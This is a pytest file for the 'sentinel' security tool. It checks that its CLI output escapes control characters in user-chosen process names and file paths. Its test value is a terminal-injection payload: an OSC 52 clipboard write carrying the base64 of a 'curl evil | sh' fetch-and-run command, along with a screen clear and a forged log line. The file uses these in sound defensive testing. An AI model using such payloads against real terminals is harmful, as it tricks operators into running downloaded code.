"""CLI output of names from the box: `sentinel timeline` and `sentinel quarantine list`
print a process name, argv or file path chosen by the watched user with its control
characters escaped, so it cannot drive the operator's terminal or forge a line."""

from __future__ import annotations

import subprocess
import sys
import time
from pathlib import Path

import pytest

from sentinel.evidence import recorder
from sentinel.response.quarantine import Vault

EVIL = "x\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\nsentinel: fake line"


def _cli(cfg: Path, *args: str) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "sentinel.cli", args[0], "-c", str(cfg), *args[1:]],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def _config(tmp_path: Path) -> Path:
    cfg = tmp_path / "sentinel.toml"
    cfg.write_text(f'[agent]\nstate_dir = "{tmp_path / "state"}"\n')
    return cfg


def _clean(out: str) -> None:
    assert "\x1b" not in out and "\x07" not in out, repr(out)
    assert "\nsentinel: fake line" not in out, out


def test_timeline_escapes_names_and_paths(tmp_path: Path) -> None:
    cfg = _config(tmp_path)
    rec = recorder.Recorder(recorder.db_path(str(tmp_path / "state")), 0, 0)
    t = time.time() - 5
    rec.put(recorder.Row(t, "exec", 10, 1, "nobody", {"name": EVIL, "argv": [EVIL, EVIL]}))
    rec.put(recorder.Row(t + 1, "file", None, None, None, {"path": EVIL, "change": "created"}))
    rec.close()
    out = _cli(cfg, "timeline", "--user", "nobody", "--since", "5m")
    assert "52;c;" in out  # the row is there, escaped
    _clean(out)


def test_quarantine_list_escapes_paths(tmp_path: Path) -> None:
    cfg = _config(tmp_path)
    victim = tmp_path / EVIL.replace("/", "_")
    victim.write_text("payload")
    Vault(str(tmp_path / "state" / "quarantine")).put(str(victim), "inc-1", 1 << 20)
    out = _cli(cfg, "quarantine", "list")
    assert "52;c;" in out
    _clean(out)


def test_contain_table_escapes_details(capsys: pytest.CaptureFixture[str]) -> None:
    from sentinel.cli.contain import print_table

    print_table([("quarantine", "done", "10", "1.0", f"moved {EVIL}")])
    out = capsys.readouterr().out
    assert out.count("\n") == 2  # the head and one row
    _clean(out)
